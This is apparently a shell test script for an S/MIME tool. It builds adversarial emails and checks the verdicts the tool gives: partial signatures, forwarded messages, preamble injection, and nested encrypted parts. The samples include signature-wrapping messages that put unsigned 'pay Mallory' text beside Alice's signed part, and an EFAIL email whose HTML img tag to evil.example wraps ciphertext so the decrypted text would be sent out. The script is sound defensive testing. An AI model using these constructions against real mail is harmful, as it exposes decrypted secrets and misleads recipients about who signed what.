#!/usr/bin/env bash
# MIME wrapping: a validly signed (or encrypted) part inside something the
# signature does not cover is never reported as a signed (or decrypted)
# message. SPEC verify: a signature on part of the message is `partial`; a
# forwarded message (message/rfc822) is an attachment: `none`. SPEC decrypt:
# an encrypted part inside a multipart is never decrypted (EFAIL direct
# exfiltration), a forwarded encrypted message is left alone.
source "$TESTS_DIR/adversarial/common.sh"

osign alice "$WORK/alice.p7"
with_headers 'From: alice@example.org\n' "$WORK/alice.p7" "$WORK/good.eml"
expect_verify "$WORK/good.eml" ok

# mixed OUT SUBTYPE PART-FILE: multipart/SUBTYPE with attacker text first,
# then the signed message (without its From) as a part.
mixed() {
    { printf 'From: alice@example.org\nMIME-Version: 1.0\nContent-Type: multipart/%s; boundary="outer"\n\n--outer\n' "$2"
      printf 'Content-Type: text/plain\n\nPay 10000 EUR to Mallory (unsigned).\n--outer\n'
      cat "$3"; printf '\n--outer--\n'; } >"$1"
}
mixed "$WORK/mixed.eml" mixed "$WORK/alice.p7"
expect_verify "$WORK/mixed.eml" partial "only part of the message is signed"
mixed "$WORK/alternative.eml" alternative "$WORK/alice.p7"
expect_verify "$WORK/alternative.eml" partial "only part"
mixed "$WORK/related.eml" related "$WORK/alice.p7"
expect_verify "$WORK/related.eml" partial "only part"
# Two levels down.
mixed "$WORK/inner.eml" mixed "$WORK/alice.p7"
sed -i 1d "$WORK/inner.eml"
mixed "$WORK/two-levels.eml" mixed "$WORK/inner.eml"
expect_verify "$WORK/two-levels.eml" partial "only part"
# Opaque signed-data as a part.
openssl cms -sign -nodetach -signer "$PKI/alice.pem" -inkey "$PKI/alice.key" -certfile "$PKI/sub.pem" \
    -in "$WORK/body.txt" -out "$WORK/opaque.p7" 2>/dev/null
mixed "$WORK/opaque-part.eml" mixed "$WORK/opaque.p7"
expect_verify "$WORK/opaque-part.eml" partial "only part"
# A third part slipped into the multipart/signed itself.
"$PY" - "$WORK/good.eml" "$WORK/three.eml" <<'PY'
import re, sys
t = open(sys.argv[1]).read()
b = re.search(r'boundary="([^"]+)"', t).group(1)
i = t.rindex(f'--{b}--')
open(sys.argv[2], 'w').write(t[:i] + f'--{b}\nContent-Type: text/plain\n\nPay Mallory.\n' + t[i:])
PY
expect_verify "$WORK/three.eml" failed "exactly two parts"
# Text in the preamble of multipart/signed is not signed and not output.
"$PY" - "$WORK/good.eml" "$WORK/preamble.eml" <<'PY'
import re, sys
t = open(sys.argv[1]).read()
b = re.search(r'boundary="([^"]+)"', t).group(1)
i = t.index(f'\n--{b}\n')
open(sys.argv[2], 'w').write(t[:i] + '\nPREAMBLE: pay Mallory.\n' + t[i:])
PY
expect_verify "$WORK/preamble.eml" ok
expect_no_grep PREAMBLE "$WORK/out"

# Forwarded: the signed mail as a message/rfc822 attachment, and a message
# whose whole body is message/rfc822.
{ printf 'From: mallory@evil.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="fw"\n\n--fw\n'
  printf 'Content-Type: text/plain\n\nSee below, Alice agreed.\n--fw\nContent-Type: message/rfc822\n\n'
  cat "$WORK/good.eml"; printf '\n--fw--\n'; } >"$WORK/forwarded.eml"
expect_verify "$WORK/forwarded.eml" none
{ printf 'From: alice@example.org\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n'; cat "$WORK/good.eml"; } >"$WORK/rfc822.eml"
expect_verify "$WORK/rfc822.eml" none

# Encryption: a part of a multipart is never decrypted in place, and the
# body comes back unchanged (EFAIL direct exfiltration: HTML around it).
printf 'Content-Type: text/plain\n\nsecret numbers 1 2 3\n' >"$WORK/secret.txt"
openssl cms -encrypt -aes256 -in "$WORK/secret.txt" "$PKI/bob.pem" >"$WORK/enc.p7m" 2>/dev/null
{ printf 'From: alice@example.org\nTo: bob@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n\n'
  printf -- '--b1\nContent-Type: text/html\n\n<img src="http://evil.example/\n--b1\n'
  sed '1,/^Content-Type/{/^Content-Type/!d}' "$WORK/enc.p7m"
  printf '\n--b1\nContent-Type: text/html\n\n">\n--b1--\n'; } >"$WORK/efail.eml"
run_op decrypt "$WORK/efail.eml"
[ $rc = 1 ] || fail "efail: exit $rc"
expect_grep '"status":"failed","reason":"an encrypted part inside a multipart message is not decrypted"' "$WORK/status"
expect_no_grep 'secret numbers' "$WORK/out"
expect_grep '^X-SMIME-Encryption: failed' "$WORK/out"
diff <(sed '1,/^$/d' "$WORK/efail.eml") <(sed '1,/^$/d' "$WORK/out") >/dev/null || fail "efail: body changed"
# The same two levels down.
{ printf 'From: alice@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b0"\n\n--b0\n'
  sed 1,2d "$WORK/efail.eml"; printf '\n--b0--\n'; } >"$WORK/efail2.eml"
run_op decrypt "$WORK/efail2.eml"
[ $rc = 1 ] || fail "efail two levels: exit $rc"
expect_no_grep 'secret numbers' "$WORK/out"
# Forwarded encrypted mail: an attachment, none.
with_headers 'From: alice@example.org\nTo: bob@example.org\n' "$WORK/enc.p7m" "$WORK/enc.eml"
{ printf 'From: carol@example.org\nTo: bob@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b2"\n\n'
  printf -- '--b2\nContent-Type: text/plain\n\nsee attached\n--b2\nContent-Type: message/rfc822\n\n'
  cat "$WORK/enc.eml"; printf '\n--b2--\n'; } >"$WORK/fwd-enc.eml"
expect_decrypt "$WORK/fwd-enc.eml" none
expect_no_grep 'secret numbers' "$WORK/out"
finish
